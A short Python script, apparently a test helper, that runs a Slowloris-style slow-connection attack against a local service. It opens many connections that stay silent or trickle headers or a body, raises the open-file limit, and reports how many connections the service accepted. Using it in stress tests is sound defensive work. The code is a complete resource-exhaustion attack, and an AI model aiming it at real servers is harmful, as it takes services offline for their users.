"""Open very many connections that keep a service waiting, and hold them.

A third says nothing, a third is slow with the head of its request, a third with its body.

`python slow_ones.py PORT COUNT` prints `attacking` once all have been begun, goes on until its input ends, and says
`opened N` with how many were let in.
"""

import asyncio
import resource
import sys
from contextlib import suppress

HEAD = b"POST /v1/session HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
BEGINNINGS = (b"", HEAD, HEAD + b"Content-Length: 60000\r\n\r\n{")
NEXT = (b"", b"X-Slow: 1\r\n", b" ")
ADDRESSES = ("127.0.0.2", "127.0.0.3", "127.0.0.4")


async def keep_waiting(port: int, number: int, over: asyncio.Event) -> bool:
    """Return whether the service has let us in; it may have hung up since."""
    kind, address = number % 3, (ADDRESSES[number // 3 % 3], 0)
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=address)
    except OSError:
        return False
    with suppress(OSError):
        writer.write(BEGINNINGS[kind])
        while not over.is_set() and not reader.at_eof():
            writer.write(NEXT[kind])
            with suppress(TimeoutError):
                async with asyncio.timeout(2):
                    await reader.read()
    return True


async def attack(port: int, count: int) -> None:
    over = asyncio.Event()
    tasks = []
    for number in range(count):
        tasks.append(asyncio.create_task(keep_waiting(port, number, over)))
        if number % 100 == 99:
            await asyncio.sleep(0.01)
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    await asyncio.to_thread(sys.stdin.read)
    over.set()
    opened = await asyncio.gather(*tasks)
    sys.stdout.write(f"opened {sum(opened)}\n")


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(attack(int(sys.argv[1]), int(sys.argv[2])))
